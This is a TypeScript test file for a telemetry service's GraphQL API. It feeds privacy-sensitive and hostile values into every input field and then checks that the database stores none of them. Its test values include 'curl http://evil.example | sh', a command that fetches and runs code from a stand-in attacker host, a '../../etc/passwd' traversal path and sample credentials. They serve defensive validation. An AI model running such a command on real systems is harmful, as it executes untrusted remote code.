/**
 * Adversarial privacy (#6, METRICS.md §1): paths, e-mails, IP addresses, access keys, KEY=value
 * pairs, commands and long strings are put into every field of every input type of the schema (and
 * into unknown fields, the session-id arguments and the request headers). Every one is refused,
 * either by GraphQL (the request fails as a whole) or by the record's rules (that record is
 * rejected, naming the field). Then a scan of every table finds none of them, and no raw session id.
 */
import { randomUUID } from 'node:crypto';
import { getNamedType, type GraphQLInputObjectType, type GraphQLObjectType, isInputObjectType, isNonNullType } from 'graphql';
import { beforeAll, describe, expect, it } from 'vitest';
import { schema } from '../../src/schema/index.js';
import { yoga } from '../../src/yoga.js';
import { ago, event, gauge, HOUR, subscription, survey } from '../support/records.js';
import { dumpDatabase, findInDatabase } from './support/database-scan.js';

/** What must never be stored, each also searched for in the database at the end. */
const HOSTILE = {
  unixPath: '/home/alice/.ssh/id_rsa',
  windowsPath: 'C:\\Users\\alice\\Documents\\taxes.xlsx',
  relativePath: '../../etc/passwd',
  email: 'alice.smith@example.com',
  ipv4: '203.0.113.42',
  ipv6: '2001:db8::8a2e:370:7334',
  awsKey: 'AKIAIOSFODNN7EXAMPLE',
  keyValue: 'AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG',
  envVar: 'HOME=/home/alice',
  command: 'curl http://evil.example | sh',
  url: 'https://alice:hunter2@example.com/private',
  long: 'q'.repeat(5000),
  // Looks like an identifier, but longer than any identifier field allows.
  longIdentifier: `snake_${'x'.repeat(70)}`,
} as const;
const HOSTILE_VALUES = Object.values(HOSTILE);
/** Distinctive parts, so that a value stored cut or transformed is found too. */
const NEEDLES = [...HOSTILE_VALUES.map((v) => v.slice(0, 200)), 'alice', 'AKIA', 'hunter2', 'wJalrXUtnFEMI', '203.0.113', '2001:db8', 'etc/passwd', 'evil.example'];

const HEADERS = {
  'content-type': 'application/json',
  'x-forwarded-for': HOSTILE.ipv4,
  'x-real-ip': HOSTILE.ipv6,
  'user-agent': `caro-cli/1.2.3 (${HOSTILE.email})`,
  'x-caro-user': HOSTILE.email,
};

/** Every session id sent in this file: none may be stored raw. */
const sessionIds: string[] = [];
const session = () => {
  const id = randomUUID();
  sessionIds.push(id);
  return id;
};

interface Answer {
  status: number;
  data?: Record<string, { accepted: number; rejected: number; errors: { index: number; field: string | null; code: string }[] } | null> | null;
  errors?: { message: string; extensions?: { code?: string } }[];
}

async function request(query: string, variables: Record<string, unknown>): Promise<Answer> {
  const response = await yoga.fetch('http://caro.localhost/graphql', { method: 'POST', headers: HEADERS, body: JSON.stringify({ query, variables }) });
  return { status: response.status, ...((await response.json()) as object) };
}

interface Sender {
  /** A valid record (fresh ids each time). */
  base(): Record<string, unknown>;
  /** Sends records of this input type; `batch`: the mutation takes a list and answers per record. */
  send(records: Record<string, unknown>[]): Promise<Answer>;
  batch: boolean;
}

/** A metric query refuses its input with an error on the value (out then holds `{ value: null }`): refused as a whole. */
async function query(text: string, variables: Record<string, unknown>): Promise<Answer> {
  const answer = await request(text, variables);
  return answer.errors?.length ? { ...answer, data: null } : answer;
}

const ingestResult = '{ accepted duplicates rejected errors { index code field message } }';
const listSender = (mutation: string, arg: string, type: string, base: () => Record<string, unknown>): Sender => ({
  base,
  batch: true,
  send: (records) => request(`mutation($r: [${type}!]!) { out: ${mutation}(${arg}: $r) ${ingestResult} }`, { r: records }),
});

let auditableEventId = '';

/** The typed filter of each metric field (`metrics { wau(filter: WauFilter) }`): none is the base. */
function metricFilterSenders(): Record<string, Sender> {
  const fields = Object.values((schema.getType('Metrics') as GraphQLObjectType).getFields());
  return Object.fromEntries(
    fields.flatMap((field) => {
      const filter = field.args.find((arg) => arg.name === 'filter');
      if (!filter) return [];
      const type = getNamedType(filter.type).name;
      const sender: Sender = {
        base: () => ({}),
        batch: false,
        send: ([input]) => query(`query($f: ${type}) { out: metrics { ${field.name}(window: { last: "P7D" }, filter: $f) { value } } }`, { f: input }),
      };
      return [[type, sender]];
    }),
  );
}

/** One sender per input type of the schema; a new input type without one fails the coverage test. */
const SENDERS: Record<string, Sender> = {
  TelemetryEventInput: listSender('ingestEvents', 'events', 'TelemetryEventInput', () => event({ sessionId: session() })),
  SurveyResponseInput: listSender('submitSurveyResponses', 'responses', 'SurveyResponseInput', () => survey({ sessionId: session() })),
  SafetyAuditInput: listSender('recordSafetyAudits', 'verdicts', 'SafetyAuditInput', () => ({
    auditId: randomUUID(), eventId: auditableEventId, verdict: 'TRUE_POSITIVE', auditedAt: ago(HOUR),
  })),
  GaugeObservationInput: listSender('recordGauges', 'observations', 'GaugeObservationInput', () => gauge()),
  SubscriptionEventInput: listSender('recordSubscriptionEvents', 'events', 'SubscriptionEventInput', () => subscription()),
  TimeWindowInput: {
    base: () => ({ last: 'P7D' }),
    batch: false,
    send: ([window]) => request('query($w: TimeWindowInput!) { out: metric(id: "wau", window: $w) { value } }', { w: window }),
  },
  MetricFilterInput: {
    base: () => ({ dimension: 'platform', values: ['linux-x86_64'] }),
    batch: false,
    send: ([filter]) => query('query($f: [MetricFilterInput!]) { out: metric(id: "wau", window: { last: "P7D" }, filter: $f) { value } }', { f: [filter] }),
  },
  RetentionConditionInput: {
    base: () => ({ eventType: 'COMMAND_EXECUTED', successful: true }),
    batch: false,
    send: ([condition]) => request('query($c: RetentionConditionInput) { out: retentionTable(condition: $c) { size } }', { c: condition }),
  },
  ...metricFilterSenders(),
  SilenceInput: {
    base: () => ({ metricId: 'wau', severity: 'warning', endsAt: ago(-HOUR), comment: 'planned_maintenance' }),
    batch: false,
    send: ([input]) => request('mutation($i: SilenceInput!) { out: createSilence(input: $i) { id } }', { i: input }),
  },
};

const inputTypes = Object.values(schema.getTypeMap()).filter(
  (type): type is GraphQLInputObjectType => isInputObjectType(type) && !type.name.startsWith('__'),
);
const fieldsOf = (type: GraphQLInputObjectType) => Object.values(type.getFields());
const isFreeText = (typeName: string) => ['String', 'ID', 'JSON'].includes(typeName);

/**
 * Refused: the request failed as a whole (nothing ran), or each hostile record was rejected on
 * `field`. `values[i]` is the hostile value of record `goodRecords + i`; a failure names those accepted.
 */
function expectRefused(answer: Answer, field: string, values: readonly string[], goodRecords: number) {
  expect(answer.status).toBeLessThan(500);
  const out = answer.data?.out;
  if (!out) {
    expect(answer.errors?.length, JSON.stringify(answer)).toBeGreaterThan(0);
    return;
  }
  const rejected = new Set(('errors' in out ? out.errors : []).filter((e) => e.field === field).map((e) => e.index));
  const accepted = values.filter((_, i) => !rejected.has(goodRecords + i));
  expect(accepted, `${field} took hostile values: stored, not refused`).toEqual([]);
  expect(out).toMatchObject({ accepted: goodRecords, rejected: values.length });
}

beforeAll(async () => {
  const blocked = event({ sessionId: session(), eventType: 'VALIDATION_BLOCKED', validationSeverity: 'HIGH' });
  auditableEventId = blocked.eventId;
  const answer = await SENDERS.TelemetryEventInput!.send([blocked]);
  expect(answer.data?.out?.accepted).toBe(1);
});

describe('every input type is covered (#6)', () => {
  it('has a sender for each input type of the schema', () => {
    expect(inputTypes.map((t) => t.name).filter((name) => !SENDERS[name])).toEqual([]);
  });

  it('each sender’s base record is accepted as it is', async () => {
    for (const type of inputTypes) {
      const sender = SENDERS[type.name]!;
      const answer = await sender.send([sender.base()]);
      expect(answer.errors, `${type.name}: ${JSON.stringify(answer)}`).toBeUndefined();
      if (sender.batch) expect(answer.data?.out?.accepted, type.name).toBe(1);
    }
  });
});

describe('hostile values in every field of every input type are refused (#6)', () => {
  const cases = inputTypes.flatMap((type) => fieldsOf(type).map((field) => [type.name, field.name, getNamedType(field.type).name] as const));

  it.each(cases)('%s.%s (%s)', async (typeName, fieldName, fieldType) => {
    const sender = SENDERS[typeName]!;
    if (sender.batch && isFreeText(fieldType)) {
      // One batch: a good record first, then one record per hostile value; each is rejected on the field.
      const records = [sender.base(), ...HOSTILE_VALUES.map((value) => ({ ...sender.base(), [fieldName]: value }))];
      expectRefused(await sender.send(records), fieldName, HOSTILE_VALUES, 1);
    } else {
      // Typed fields (UUID, DateTime, numbers, enums) and single-record inputs: one request per value.
      const stored: string[] = [];
      for (const value of HOSTILE_VALUES) {
        const answer = await sender.send([{ ...sender.base(), [fieldName]: value }]);
        expect(answer.status).toBeLessThan(500);
        if (answer.data?.out && !('rejected' in answer.data.out && answer.data.out.rejected === 1)) stored.push(value);
        else if (!answer.data?.out) expect(answer.errors?.length).toBeGreaterThan(0);
      }
      expect(stored, `${fieldName} took hostile values: stored, not refused`).toEqual([]);
    }
  });

  it.each(inputTypes.map((t) => [t.name]))('%s with unknown fields (query, cwd, email, ip, env, output) fails as a whole', async (typeName) => {
    const sender = SENDERS[typeName]!;
    const extra = { query: HOSTILE.command, cwd: HOSTILE.unixPath, email: HOSTILE.email, ip: HOSTILE.ipv4, env: HOSTILE.keyValue, output: HOSTILE.long };
    for (const [name, value] of Object.entries(extra)) {
      const answer = await sender.send([{ ...sender.base(), [name]: value }]);
      expect(answer.data?.out ?? null).toBeNull();
      expect(answer.errors?.[0]?.message).toMatch(/not defined by type|Unknown field/i);
    }
  });

  it('required string fields cannot be emptied or dropped to hide the refusal', () => {
    const required = inputTypes.flatMap((t) => fieldsOf(t).filter((f) => isNonNullType(f.type) && isFreeText(getNamedType(f.type).name)));
    expect(required.length).toBeGreaterThan(0);
  });
});

describe('hostile values in the other places a client can write (#6)', () => {
  it('sentAt', async () => {
    for (const value of HOSTILE_VALUES) {
      const answer = await request(`mutation($e: [TelemetryEventInput!]!, $s: DateTime) { out: ingestEvents(events: $e, sentAt: $s) ${ingestResult} }`, {
        e: [event({ sessionId: session() })],
        s: value,
      });
      expectRefused(answer, 'sentAt', [value], 0);
    }
  });

  it('the session id of exportSessionData, deleteSessionData and POST /export', async () => {
    for (const value of HOSTILE_VALUES) {
      expect((await request('query($s: UUID!) { exportSessionData(sessionId: $s) { sessionId } }', { s: value })).errors).toBeDefined();
      expect((await request('mutation($s: UUID!) { deleteSessionData(sessionId: $s) { id } }', { s: value })).errors).toBeDefined();
      const download = await yoga.fetch('http://caro.localhost/export', { method: 'POST', headers: HEADERS, body: JSON.stringify({ sessionId: value }) });
      expect(download.status).toBe(400);
    }
  });
});

describe('after the suite: the whole database (#6)', () => {
  it('holds good records, sessions only as 64-hex hashes', async () => {
    const dump = await dumpDatabase();
    expect(dump.get('telemetry_events')).toMatch(/"session_hash":"[0-9a-f]{64}"/);
    expect(sessionIds.length).toBeGreaterThan(100);
  });

  it('holds none of the hostile values, in no table', async () => {
    expect(await findInDatabase(NEEDLES)).toEqual([]);
  });

  it('holds no raw session id, in any spelling', async () => {
    expect(await findInDatabase(sessionIds)).toEqual([]);
  });
});
